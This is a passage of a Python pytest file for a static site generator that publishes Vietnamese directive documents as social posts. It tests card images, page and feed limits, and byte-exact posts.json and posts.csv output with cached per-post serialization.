        "van-ban-2023-101-cv-duk.png",
        "van-ban-2023-900-cv-duk.png",
        "van-ban-2024-2078-cv-duk.png",
    ]
    with Image.open(cards_dir / "chung.png") as image:
        assert image.size == (1200, 630)
    old = site.page("van-ban/2023/100-cv-duk/")
    assert 'content="bai-dang/the/chung.png"' not in old  # og:image is page-relative here
    assert "../../../bai-dang/the/chung.png" in old
    assert "Ảnh kèm bài đăng: Đảng ủy Khối thử" in old
    assert "../../../bai-dang/the/van-ban-2023-101-cv-duk.png" in site.page(
        "van-ban/2023/101-cv-duk/"
    )
    exported = json.loads((site.site_dir / "bai-dang" / "posts.json").read_text("utf-8"))
    images = {p["source"]: p["image"] for p in exported}
    assert images["100-CV/ĐUK"] == "bai-dang/the/chung.png"
    assert images["900-CV/ĐUK"] == "bai-dang/the/van-ban-2023-900-cv-duk.png"


def test_card_days_zero_draws_every_card(make_site: MakeSite) -> None:
    site = _card_site(make_site, card_days=0)
    assert site.exit_code == 0, site.output
    names = sorted(p.name for p in (site.site_dir / "bai-dang" / "the").iterdir())
    assert "chung.png" not in names and "van-ban-2023-100-cv-duk.png" in names


def test_the_posts_page_and_feed_carry_the_newest_posts_the_files_all(
    make_site: MakeSite, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(posts, "PAGE_POSTS", 3)
    monkeypatch.setattr(posts, "FEED_ITEMS", 2)
    files: dict[str, str | bytes] = {
        f"directives/2024/{n}-cv-duk.md": directive(f"{n}-CV/ĐUK", f"2024-03-{n:02d}")
        for n in range(1, 5)
    }
    site = make_site(files)
    assert site.exit_code == 0, site.output
    page = site.page("bai-dang/")
    assert page.count("data-bangtin-post ") == 3
    assert "Trang này hiện 3 bài mới nhất trong 8 bài" in page
    assert "4-CV/ĐUK" in page and "van-ban/2024/1-cv-duk/" not in page
    feed = ET.fromstring((site.site_dir / "bai-dang" / "feed.xml").read_bytes())
    assert [e.findtext("guid") for e in feed.findall("./channel/item")] == [
        "van-ban-2024-4-cv-duk-facebook",
        "van-ban-2024-4-cv-duk-zalo",
    ]
    exported = json.loads((site.site_dir / "bai-dang" / "posts.json").read_text("utf-8"))
    assert len(exported) == 8


@given(
    st.lists(
        st.dictionaries(
            st.text(),
            st.one_of(
                st.text(),
                st.integers(),
                st.none(),
                st.booleans(),
                st.lists(st.one_of(st.text(), st.integers())),
            ),
        )
    )
)
def test_posts_json_is_written_as_the_standard_library_indents_it(rows: list[dict]) -> None:  # type: ignore[type-arg]
    """posts.json is written with the C encoder, byte for byte as json.dumps(indent=2)."""
    assert posts._indented_json(rows) == json.dumps(rows, ensure_ascii=False, indent=2)


def test_posts_json_keeps_each_post_s_bytes_for_the_next_write(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # serve writes posts.json again when a record leaves the view: the posts it keeps are the
    # same objects, and their bytes are joined, not made and encoded again (30 MB at 10,000
    # directives); the file is json.dumps(rows, indent=2)'s all the same, and a post that
    # changed, a site address that changed, are made again.
    items = posts.sorted_posts(_all_posts())
    first = posts.posts_json(items, site_url=SITE)
    made: list[str] = []
    post_json = posts._post_json

    def counted(p: object, site_url: str) -> str:
        made.append(site_url)
        return post_json(p, site_url)  # type: ignore[arg-type]

    monkeypatch.setattr(posts, "_post_json", counted)
    changed = dataclasses.replace(items[1], text="Nội dung mới")
    now = [items[0], changed, *items[2:]]
    again = posts.posts_json(now, site_url=SITE)
    assert made == [SITE]  # only the changed post's
    rows = json.loads(first)
    rows[1]["text"] = "Nội dung mới"
    assert again == (json.dumps(rows, ensure_ascii=False, indent=2) + "\n").encode("utf-8")
    made.clear()
    assert posts.posts_json(items, site_url="") != first and len(made) == len(items)
    # posts.csv alike: its lines kept by post, the file csv_text's.
    posts.posts_csv(items, site_url=SITE)
    post_csv, made_csv = posts._post_csv, []

    def counted_csv(p: Post, site_url: str) -> str:
        made_csv.append(site_url)
        return post_csv(p, site_url)

    monkeypatch.setattr(posts, "_post_csv", counted_csv)
    table = posts.posts_csv(now, site_url=SITE)
    assert made_csv == [SITE]
    rows_csv = [
        (
            p.publish_on.isoformat(),
            p.channel,
            p.text,
            p.url,
            posts._absolute(SITE, p.image),
            p.title,
        )
        for p in now
    ]
    assert table == "\ufeff".encode() + csv_text(posts.CSV_COLUMNS, rows_csv).encode("utf-8")
